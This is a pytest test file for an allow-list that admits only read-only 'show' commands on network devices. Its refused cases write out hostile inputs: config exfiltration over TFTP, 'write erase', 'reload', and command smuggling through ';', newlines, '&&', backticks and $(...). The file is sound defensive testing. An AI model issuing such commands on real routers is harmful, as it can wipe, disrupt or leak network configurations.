"""The show allow-list: read-only commands pass (expanded), everything else is refused with a reason."""

from __future__ import annotations

import pytest

from tools.allowlist import check_show_command


@pytest.mark.parametrize(("command", "expanded"), [
    ("show version", "show version"),
    ("sh ver", "show version"),
    ("sh ip int br", "show ip interface brief"),
    ("show ip interface GigabitEthernet0/1", "show ip interface GigabitEthernet0/1"),
    ("show ip route 10.0.4.0 255.255.255.0 longer-prefixes", "show ip route 10.0.4.0 255.255.255.0 longer-prefixes"),
    ("sh ip ospf nei", "show ip ospf neighbor"),
    ("show ip bgp sum", "show ip bgp summary"),
    ("show bgp ipv4 unicast neighbors 10.0.25.2", "show bgp ipv4 unicast neighbors 10.0.25.2"),
    ("sh lldp nei detail", "show lldp neighbors detail"),
    ("show access-lists", "show access-lists"),
    ("show run | i hostname", "show running-config | include hostname"),
    ("show run | s router ospf", "show running-config | section router ospf"),
    ("show running-config | include ospf|bgp", "show running-config | include ospf|bgp"),
    ("SHOW  IP   ROUTE", "show ip route"),
    ("show interfaces | count up", "show interfaces | count up"),
])
def test_allowed(command: str, expanded: str) -> None:
    check = check_show_command(command)
    assert check.allowed, check.reason
    assert check.command == expanded


@pytest.mark.parametrize(("command", "reason"), [
    ("configure terminal", "only 'show' commands"),
    ("conf t", "only 'show' commands"),
    ("reload", "only 'show' commands"),
    ("write erase", "only 'show' commands"),
    ("copy running-config tftp://1.2.3.4/x", "only 'show' commands"),
    ("show run ; conf t", "';'"),
    ("show run | i x\nconfigure terminal", "control characters"),
    ("show run\r\nreload", "control characters"),
    ("show run | redirect flash:run.txt", "'| redirect' is not allowed"),
    ("show run | tee flash:x", "'| tee' is not allowed"),
    ("show run | append flash:x", "'| append' is not allowed"),
    ("show run | include x | redirect flash:y", "file-writing output filter"),
    ("show run | i a|t flash:y", "file-writing output filter"),
    ("show clock > flash:x", "redirection"),
    ("show run && reload", "chaining"),
    ("show `reload`", "chaining"),
    ("show $(reload)", "chaining"),
    ("sh i", "ambiguous"),
    ("show ip", "not an allowed read-only command"),
    ("show tech-support", "not an allowed read-only command"),
    ("show snmp community", "not an allowed read-only command"),
    ("show", "incomplete"),
    ("", "empty"),
    ("show run |", "empty output filter"),
    ("show run | include", "needs a pattern"),
    ("show run | frobnicate x", "unknown or ambiguous output filter"),
    ("show ip route 'x'", "characters not allowed"),
    ("show version " + "x" * 300, "longer than"),
])
def test_refused(command: str, reason: str) -> None:
    check = check_show_command(command)
    assert not check.allowed
    assert reason in check.reason
